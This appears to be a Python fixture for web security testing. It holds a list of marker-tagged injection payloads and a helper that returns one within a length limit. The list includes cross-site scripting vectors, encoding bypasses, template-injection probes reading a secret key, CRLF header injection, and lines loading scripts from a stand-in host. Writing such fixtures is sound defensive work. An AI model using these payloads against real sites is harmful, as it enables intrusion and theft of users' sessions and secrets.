"""What somebody hostile types. Each holds MARK, so that one can see where on a page it has come to stand."""

from __future__ import annotations

import itertools
from collections.abc import Callable

MARK = "zqx"
SUM = 7919 * 6563  # what template syntax would work out
PAYLOADS = (
    f"<script>{MARK}()</script>",
    f"</title><script src=//{MARK}.example></script>",
    f"</textarea><script>{MARK}</script>",
    f"</option></select><img src={MARK} onerror={MARK}()>",
    f'"><img src={MARK} onerror={MARK}()>',
    f"'><svg/onload={MARK}()>",
    f'" onmouseover="{MARK}()" {MARK}="',
    f"' autofocus onfocus='{MARK}()' {MARK}='",
    f"` onfocus={MARK}() {MARK}=`",
    f"{MARK} onclick={MARK}() tabindex=1",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s></svg>",
    f"<svg><script>{MARK}&lpar;1&rpar;</script></svg>",
    f"<math><mi//xlink:href='data:x,<script>{MARK}</script>'>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<object data=javascript:{MARK}()></object>",
    f"<embed src=//{MARK}.example>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<style>@import '//{MARK}.example'</style>",
    f"<form action=//{MARK}.example><button>{MARK}</button></form>",
    f"<a href=javascript:{MARK}()>{MARK}</a>",
    f"javascript:{MARK}()//",
    f"JaVaScRiPt\t:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"<details open ontoggle={MARK}()>",
    f"<!--><img src={MARK} onerror={MARK}()>-->",
    f"]]><script>{MARK}()</script>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;img src={MARK} onerror={MARK}()&#62;",
    f"\\u003cscript\\u003e{MARK}()",
    f"{{{{7919*6563}}}} {MARK}",
    f"{{% print(7919*6563) %}}{MARK}",
    f"${{7919*6563}} #{{7919*6563}} <%= 7919*6563 %> {MARK}",
    f"{{{{config.SECRET_KEY}}}}{{{{''.__class__.__mro__}}}} {MARK}",
    f"%(name)s %s %n {{0.__class__}} {{name}} {MARK}",
    f"\u202e<script>{MARK}()</script>\u202c",
    f"\u2066{MARK}\u2069\u200f<b onclick={MARK}()>",
    f"<scr\x00ipt>{MARK}()</scr\x00ipt>",
    f"＜script＞{MARK}()＜/script＞",
    f"\ufeff<script>{MARK}()</script>\u2028{MARK}()",
    f"{MARK}\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{MARK}()</script>",
    f'=HYPERLINK("//{MARK}.example")',
    f"<b {MARK}>" + "A" * 3000 + f"<i onclick={MARK}()>",
)


def rotating(payloads: tuple[str, ...] = PAYLOADS) -> Callable[[int], str]:
    """Each call gives the next one that has room."""
    turn = itertools.cycle(payloads)

    def following(most: int) -> str:
        fitting = min(payloads, key=len)[:most] if min(map(len, payloads)) > most else ""
        return fitting or next(each for each in turn if len(each) <= most)

    return following
